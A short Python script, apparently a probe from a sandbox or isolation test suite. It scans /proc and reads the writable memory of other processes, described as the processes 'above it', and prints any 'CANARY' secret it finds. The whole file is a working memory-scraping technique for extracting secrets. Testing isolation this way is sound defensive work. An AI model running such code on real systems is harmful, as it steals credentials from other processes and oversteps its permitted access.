# tries: secret
# about: searches the memory of the processes above it

import os, re
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    if process.name in (str(os.getpid()), os.readlink("/proc/self")):
        continue
    try:
        for line in (process / "maps").read_text().splitlines()[:400]:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 50_000_000:
                with open(process / "mem", "rb", 0) as memory:
                    memory.seek(start)
                    found = re.search(rb"CANARY[-a-z]*", memory.read(end - start))
                    if found:
                        print(found.group().decode())
    except (OSError, ValueError, OverflowError):
        pass
